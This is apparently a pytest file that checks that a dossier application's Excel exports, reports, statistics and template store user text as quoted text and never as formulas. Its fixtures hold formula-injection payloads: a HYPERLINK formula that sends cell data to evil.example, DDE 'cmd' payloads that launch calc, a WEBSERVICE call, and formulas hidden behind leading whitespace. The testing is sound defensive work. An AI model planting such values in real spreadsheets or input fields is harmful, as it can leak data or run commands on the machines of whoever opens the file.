"""No workbook we write turns text from a dossier into a formula (issue 9): exports, reports, statistics
and the template are read back with openpyxl and no cell holding user text is a formula."""
from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from documents.reports import build_report
from documents.reports.stats_xlsx import render_statistics_xlsx
from documents.reports.xlsx import render_xlsx
from workflow.dossier import parse_dossier
from workflow.spreadsheet import read_records, write_records, write_template
from workflow.statistics import annual_statistics

AS_OF = dt.date(2026, 11, 21)
HOSTILE = {
    "name": "=HYPERLINK(\"http://evil.example/\"&A1,\"点此\")",
    "organisation": "+cmd|' /C calc'!A0",
    "ethnicity": "-2+3",
    "education": "@SUM(1+1)*cmd|' /C calc'!A0",
}
LEADING_WHITESPACE = {"organisation": "\t=1+1", "education": "\r=2+2"}


def _dossier(i: int, person: dict) -> dict:
    return {"format": "dossier/1", "id": f"H-{i}",
            "person": {"birth_date": "2001-05-06", **person},
            "steps": [{"step": "s01_application", "date": "2024-09-10", "recorded_by": "=1+1",
                       "reviewed_by": "@me"},
                      {"step": "s02_applicant_talk", "date": "2024-09-20", "by": "=WEBSERVICE(\"x\")",
                       "recorded_by": "=1+1", "reviewed_by": "@me"}],
            "case_events": [{"kind": "withdraw", "date": "2024-10-01", "reason": "=1/0"}]}


@pytest.fixture
def dossiers() -> list[dict]:
    return [_dossier(1, HOSTILE), _dossier(2, {"name": "李四", **LEADING_WHITESPACE})]


def _cells(data) -> list:
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def _no_formula_from(cells, texts) -> None:
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    written = {c.value for c in cells if isinstance(c.value, str)}
    found = [t for t in texts if t in written]
    assert found, "the hostile text is in the workbook, as text"
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value in texts)


def test_the_records_export_writes_user_text_as_text_and_reads_it_back_unchanged(dossiers, tmp_path):
    path = tmp_path / "export.xlsx"
    write_records(dossiers, path)
    texts = {*HOSTILE.values(), *LEADING_WHITESPACE.values(), "=1+1", "@me", "=WEBSERVICE(\"x\")", "=1/0"}
    _no_formula_from(_cells(path), texts)
    back = read_records(path)
    assert back.errors == []
    assert {k: back.dossiers[0]["person"][k] for k in HOSTILE} == HOSTILE
    assert back.dossiers[0]["steps"][1]["by"] == "=WEBSERVICE(\"x\")"
    assert back.dossiers[0]["case_events"][0]["reason"] == "=1/0"


def test_the_audit_report_workbook_has_no_formula(dossiers):
    report = build_report([parse_dossier(d) for d in dossiers], AS_OF)
    _no_formula_from(_cells(render_xlsx(report)), {HOSTILE["name"], HOSTILE["organisation"]})


def test_the_statistics_workbook_has_no_formula(dossiers):
    stats = annual_statistics([parse_dossier(d) for d in dossiers], AS_OF)
    _no_formula_from(_cells(render_statistics_xlsx(stats)), {HOSTILE["organisation"], HOSTILE["ethnicity"],
                                                              HOSTILE["education"]})


def test_the_template_has_no_formula(tmp_path):
    path = tmp_path / "template.xlsx"
    write_template(path)
    assert [c.coordinate for c in _cells(path) if c.data_type == "f"] == []
